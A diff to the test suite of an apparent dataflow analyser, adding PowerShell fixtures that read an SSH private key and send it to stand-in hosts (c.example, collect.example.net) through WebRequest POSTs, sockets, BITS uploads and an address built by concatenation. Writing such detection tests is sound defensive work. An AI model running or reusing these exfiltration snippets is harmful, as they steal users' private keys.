@@ -488,12 +488,20 @@ describe('dataflow analysis', () => {
         '$k | Invoke-RestMethod -Uri https://c.example/u -Method Post': 'network',
         '$u = New-Object System.Net.Sockets.UdpClient\n$b = [Text.Encoding]::ASCII.GetBytes($k)\n$u.Send($b, $b.Length, "203.0.113.9", 53)': 'socket',
         "$c = [Net.Sockets.TcpClient]::new('c.example', 443)\n$w = New-Object IO.StreamWriter($c.GetStream())\n$w.Write($k)": 'socket',
+        "$r = [Net.WebRequest]::Create('https://c.example/u')\n$r.Method = 'POST'\n$w = New-Object IO.StreamWriter($r.GetRequestStream())\n$w.Write($k)": 'network',
         'Set-Content -Path k.txt -Value $k\nStart-BitsTransfer -Source k.txt -Destination https://c.example/k.txt -TransferType Upload': 'network',
         'Invoke-WebRequest "https://c.example/u?d=$k" | Out-Null': 'network',
       };
       for (const [sink, kind] of Object.entries(sinks)) {
         assert.deepEqual(summary(await flowsOf('powershell', `${key}${sink}\n`)), [`secret: the SSH private key -> ${kind}`], sink);
       }
+    });
+
+    it('builds an address with += and keeps a request object through members set on it', async () => {
+      const built = await flowsOf('powershell', "$k = gc ~/.ssh/id_rsa\n$u = 'https://collect.'\n$u += 'example.net/k'\nirm -Uri $u -Method Post -Body $k\n");
+      assert.deepEqual(built.map((flow) => flow.sink.host), ['collect.example.net']);
+      const request = await flowsOf('powershell', "$k = gc ~/.ssh/id_rsa\n$r = [Net.WebRequest]::Create('https://collect.example.net/k')\n$r.Method = 'POST'\n$r.ContentType = 'text/plain'\n$w = New-Object IO.StreamWriter($r.GetRequestStream())\n$w.Write($k)\n");
+      assert.deepEqual(request.map((flow) => flow.sink.host), ['collect.example.net']);
     });
 
     it('follows the files Get-ChildItem lists, as find lists them', async () => {
